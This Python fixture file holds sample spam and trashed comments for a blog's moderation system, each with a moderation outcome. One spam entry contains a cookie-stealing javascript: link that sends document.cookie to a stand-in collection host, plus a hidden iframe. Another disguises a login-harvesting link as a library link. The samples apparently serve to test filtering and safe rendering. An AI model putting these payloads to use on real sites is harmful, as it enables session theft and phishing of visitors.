"""Replies that are no part of the conversation any more: spam, and what was put in the trash. Data only."""

from blog.sample.shapes import DAY, HOUR, SampleDecision, SampleReply, spam

SPAM = (
    SampleReply(
        key="sol-trap",
        post="psoas",
        name="Sol",
        email="sol@example.com",
        url="https://pills.example.com/",
        text="Hello dear webmaster, what a informative article, I have bookmark it for my brother who search exactly "
        "this topic. Greetings!",
        minutes_after_post=6 * DAY,
        seconds_taken=None,
        trap="https://pills.example.com/best-price",
        then=spam(8 * HOUR, "Filled in the field that people don't see."),
    ),
    SampleReply(
        key="insoles-quick",
        post="step",
        name="Best Insoles 4U",
        email="offers@example.net",
        text="Walk on clouds! <a href='https://insoles.example.net/?id=1'>Insoles</a> "
        "<a href='https://insoles.example.net/?id=2'>cheap insoles</a> "
        "<a href='https://insoles.example.net/?id=3'>insoles today</a> "
        "<a href='https://insoles.example.net/?id=4'>insoles for all of the family</a>",
        minutes_after_post=2 * DAY,
        seconds_taken=0.4,
        then=spam(5 * HOUR),
    ),
    SampleReply(
        key="library-imposter",
        post="floor",
        name="Reading Desk",
        email="desk@example.com",
        text="The study behind this is free to read at "
        "[https://library.example.org/floor-study](https://collect.example.net/login?from=blog), just sign in again.",
        minutes_after_post=9 * DAY,
        seconds_taken=12.0,
        then=spam(2 * HOUR, "The link says one place and goes to another."),
    ),
    SampleReply(
        key="sol-scheme",
        post="floor",
        name="Sol",
        email="sol@example.com",
        text="<a href=\"  JaVaScRiPt:fetch('https://collect.example.net/' + document.cookie)\">You have won a mat</a>"
        '<iframe src="https://collect.example.net/mat"></iframe>',
        minutes_after_post=11 * DAY,
        seconds_taken=4.1,
        then=spam(7 * HOUR),
    ),
    SampleReply(
        key="petra-sells",
        post="psoas",
        parent="kofi-lists",
        name="Petra from the Stretch Shop",
        email="petra@example.net",
        url="https://stretch-shop.example.net/",
        text="So true, Kofi! I say the same to all my customers. Five breaths and a good strap.",
        minutes_after_post=5 * DAY,
        seconds_taken=19.0,
        then=(
            SampleDecision("approve", 30),
            SampleDecision("spam", 2 * DAY, "The same words under three posts, each with the shop's address."),
        ),
    ),
    SampleReply(
        key="ergo-throne",
        post="chairs",
        name="ErgoThrone Official",
        email="sales@example.com",
        url="https://thrones.example.com/",
        text="Great article!! But you did not test the **ErgoThrone 9000**. Use code `BLOG20` at "
        "https://thrones.example.com/9000 or https://thrones.example.com/9000-pro or "
        "https://thrones.example.net/outlet before Sunday.",
        minutes_after_post=4 * DAY,
        seconds_taken=2.2,
        then=spam(3 * HOUR, "Advertising."),
    ),
    SampleReply(
        key="toe-miracle",
        post="toe",
        name="Dr. Foot",
        email="dr.foot@example.net",
        text="One weird trick makes ANY bunion go away in 3 days, surgeons hate it "
        '<a href="https://toes.example.net/" style="font-size: 90px">CLICK HERE</a>',
        minutes_after_post=8 * DAY,
        seconds_taken=6.5,
        then=spam(4 * HOUR, "A false promise, to people in pain."),
    ),
)

TRASH = (
    SampleReply(
        key="dale-rants",
        post="psoas",
        name="Dale",
        email="dale@example.com",
        text="Another blog by people who could not get into medical school. Only a fool would take advice here.",
        minutes_after_post=4 * DAY,
        seconds_taken=24.0,
        then=(
            SampleDecision("approve", 45, by="arthur"),
            SampleDecision("trash", 6 * HOUR, "Disagreeing is welcome, name-calling isn't."),
        ),
    ),
    SampleReply(
        key="joan-again",
        post="step",
        name="Joan",
        email="joan@example.com",
        text="Seventy-eight, new left hip since March. I printed the picture and (did this send? the page jumped)",
        minutes_after_post=DAY + 3 * HOUR - 4,
        seconds_taken=260.0,
        then=(SampleDecision("trash", 4 * HOUR, "Sent by accident; the whole one came four minutes later."),),
    ),
    SampleReply(
        key="hugo-regrets",
        post="floor",
        name="Hugo Lindenau",
        email="hugo@example.org",
        text="I could not get up again without the table, and I am forty-one. Starting today.",
        minutes_after_post=DAY,
        seconds_taken=57.0,
        then=(
            SampleDecision("approve", HOUR),
            SampleDecision("trash", 30 * DAY, "He wrote and asked us to take it down.", by="edith"),
        ),
    ),
)
